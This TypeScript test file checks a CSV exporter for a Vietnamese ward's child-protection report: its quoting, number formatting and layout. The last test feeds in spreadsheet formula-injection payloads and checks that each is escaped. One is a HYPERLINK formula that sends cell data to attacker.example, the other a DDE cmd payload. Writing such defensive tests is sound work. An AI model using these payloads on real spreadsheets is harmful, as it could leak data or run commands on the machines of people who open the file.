import type { PeriodicReport, ReportCellValue } from '../report.model';
import { CSV_COLUMNS, renderCsv } from './csv';
import { columns, fixtureReport } from './report.fixture';

/** A strict RFC 4180 reader: CRLF after every record, quoted fields with doubled quotes. */
function parse(csv: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let value = '';
  let i = 0;
  while (i < csv.length) {
    if (csv[i] === '"' && value === '') {
      // A quoted field runs to the next quote that is not doubled.
      i++;
      for (;;) {
        if (i >= csv.length) throw new Error('unterminated quote');
        if (csv[i] === '"' && csv[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (csv[i] === '"') {
          i++;
          break;
        } else {
          value += csv[i++];
        }
      }
      if (csv[i] !== ',' && csv[i] !== '\r') throw new Error(`text after a closing quote at ${i}`);
    } else if (csv[i] === ',') {
      record.push(value);
      value = '';
      i++;
    } else if (csv[i] === '\r' && csv[i + 1] === '\n') {
      record.push(value);
      records.push(record);
      record = [];
      value = '';
      i += 2;
    } else if (csv[i] === '\r' || csv[i] === '\n' || csv[i] === '"') {
      throw new Error(`bare ${JSON.stringify(csv[i])} at ${i}`);
    } else {
      value += csv[i++];
    }
  }
  if (value !== '' || record.length) throw new Error('last record not ended by CRLF');
  return records;
}

function rows(report: PeriodicReport) {
  const csv = renderCsv(report);
  expect(csv.charCodeAt(0)).toBe(0xfeff);
  const [header, ...data] = parse(csv.slice(1));
  return { header, data: data.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]]))) };
}

/** The lines of a report whose only table is one row: a text `k`, a number `n` and a text `t`. */
function oneRowLines(title: string, [k, n, t]: string[], row: Record<string, ReportCellValue>) {
  const report = fixtureReport();
  report.sections = [];
  const labels = [...columns('text', { k }), ...columns('number', { n }), ...columns('text', { t })];
  report.annexes = [{ id: 'X', title, columns: labels, rows: [row] }];
  return rows(report).data;
}

describe('renderCsv of a ward’s half-year report', () => {
  const { header, data } = rows(fixtureReport());
  const find = (table: string, row: number, column: string) =>
    data.filter((r) => r.table_id === table && r.row === String(row) && r.column === column);

  it('is one long table: a BOM, one header, then one line per figure', () => {
    expect(header).toEqual([...CSV_COLUMNS]);
    // I: 5 rows × 3 figures; II.2: 5 × 2; PL01: 4 × 4; PL02: 5 × 2
    expect(data).toHaveLength(15 + 10 + 16 + 10);
    expect(data.every((r) => Object.keys(r).length === CSV_COLUMNS.length)).toBe(true);
    expect(new Set(data.map((r) => r.table_id))).toEqual(
      new Set(['I-xam-hai-hinh-thuc', 'II.2-cap-do', 'PL01-0101', 'PL02-kenh']),
    );
  });

  it('says on every line whose figure it is and as known when', () => {
    expect(find('II.2-cap-do', 1, 'current')).toEqual([
      {
        unit_code: '00004',
        unit_name: 'Phường Ba Đình',
        period_from: '2026-01-01',
        period_to: '2026-06-30',
        as_known_at: '2026-06-30T10:00:00.000Z',
        table_id: 'II.2-cap-do',
        table_title: 'Kết quả bảo vệ trẻ em theo cấp độ',
        row: '1',
        row_label: 'Phòng ngừa - Lượt tư vấn, cung cấp thông tin qua Tổng đài 111',
        column: 'current',
        column_label: 'Kỳ này',
        kind: 'number',
        value: '1254',
      },
    ]);
  });

  it('writes numbers plainly, percentages as fractions and missing figures as empty', () => {
    expect(find('II.2-cap-do', 5, 'previous')[0].value).toBe('');
    expect(Number(find('I-xam-hai-hinh-thuc', 1, 'change')[0].value)).toBeCloseTo(-1 / 3, 12);
    expect(find('I-xam-hai-hinh-thuc', 1, 'change')[0].kind).toBe('percent');
    expect(find('I-xam-hai-hinh-thuc', 5, 'current')[0]).toMatchObject({ row_label: 'Tổng số', value: '9' });
    expect(find('I-xam-hai-hinh-thuc', 1, 'current')[0].row_label).toBe('1 - Bạo lực');
    expect(find('PL02-kenh', 5, 'share')[0].value).toBe('1');
  });

  it('quotes commas, quotes and line breaks as RFC 4180 says', () => {
    const csv = renderCsv(fixtureReport());
    expect(csv).toContain(',"Báo chí, mạng xã hội (""tin nóng"")",reports,');
    expect(find('PL02-kenh', 4, 'reports')[0].row_label).toBe('Báo chí, mạng xã hội ("tin nóng")');

    const lines = oneRowLines('Hai dòng\r\ntiêu đề', ['Khoản', 'Số', 'Căn cứ'], {
      k: 'a',
      n: 1e-7,
      t: 'Điều 6, "Luật Trẻ em"',
    });
    expect(lines.map((l) => [l.table_title, l.row_label, l.column, l.kind, l.value])).toEqual([
      ['Hai dòng\r\ntiêu đề', 'a', 'n', 'number', '0.0000001'],
      ['Hai dòng\r\ntiêu đề', 'a', 't', 'text', 'Điều 6, "Luật Trẻ em"'],
    ]);
  });

  it('writes no cell a spreadsheet would run as a formula, and keeps negative figures numbers', () => {
    const lines = oneRowLines(
      '=HYPERLINK("http://attacker.example/?"&A1,"Nhấn")',
      ['+1+1', '@SUM(A1)', 'Ghi chú'],
      {
        k: '-2+3',
        n: -5,
        t: '\t=cmd|" /C calc"!A0',
      },
    );
    const cells = lines.flatMap((l) => Object.values(l));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && c !== '-5')).toEqual([]);
    expect(lines.map((l) => [l.table_title, l.row_label, l.column_label, l.value])).toEqual([
      [`'=HYPERLINK("http://attacker.example/?"&A1,"Nhấn")`, "'-2+3", "'@SUM(A1)", '-5'],
      [`'=HYPERLINK("http://attacker.example/?"&A1,"Nhấn")`, "'-2+3", 'Ghi chú', `'\t=cmd|" /C calc"!A0`],
    ]);
  });
});
